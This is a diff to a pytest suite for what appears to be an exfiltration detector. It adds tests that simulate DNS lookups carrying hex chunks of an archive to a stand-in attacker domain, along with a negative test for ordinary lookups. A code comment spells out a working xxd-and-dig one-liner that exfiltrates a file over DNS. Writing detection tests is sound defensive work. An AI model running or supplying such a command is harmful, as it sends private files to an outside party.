@@ -98,3 +98,30 @@ def test_curl_reading_its_options_from_a_file_without_network_telemetry(
     trace = staged()
     trace.run(30, "curl", "-K", "/tmp/.c")
     assert severity(capsys, trace.write(tmp_path, fmt)) >= 3
+
+
+@pytest.mark.parametrize("fmt", ALL)
+@pytest.mark.parametrize("tool", ["dig", "nslookup", "host"])
+def test_dns_exfiltration_after_an_archive(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str], fmt: str, tool: str
+) -> None:
+    # `xxd -p /tmp/a.tgz | while read c; do dig $c.x.evil.example; done`: one query a chunk.
+    trace = staged()
+    for n in range(20):
+        chunk = f"{n:04x}" + "1f8b0800a3c52d6600ff" * 3
+        trace.run(30 + n * 0.2, tool, f"{chunk}.x.evil.example")
+    assert severity(capsys, trace.write(tmp_path, fmt)) >= 4
+    # One such query is medium: a lookup, not yet a channel.
+    single = staged()
+    single.run(30, tool, "0000" + "1f8b0800a3c52d6600ff" * 3 + ".x.evil.example")
+    assert severity(capsys, single.write(tmp_path, fmt, "single")) == 3
+
+
+@pytest.mark.parametrize("fmt", FORMATS)
+def test_ordinary_lookups_after_an_archive_are_not_a_channel(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str], fmt: str
+) -> None:
+    trace = staged()
+    for n, name in enumerate(["api.github.com", "registry-1.docker.io", "_dmarc.example.com"]):
+        trace.run(30 + n, "dig", name)
+    assert exfil(detect(capsys, str(trace.write(tmp_path, fmt)))) == []
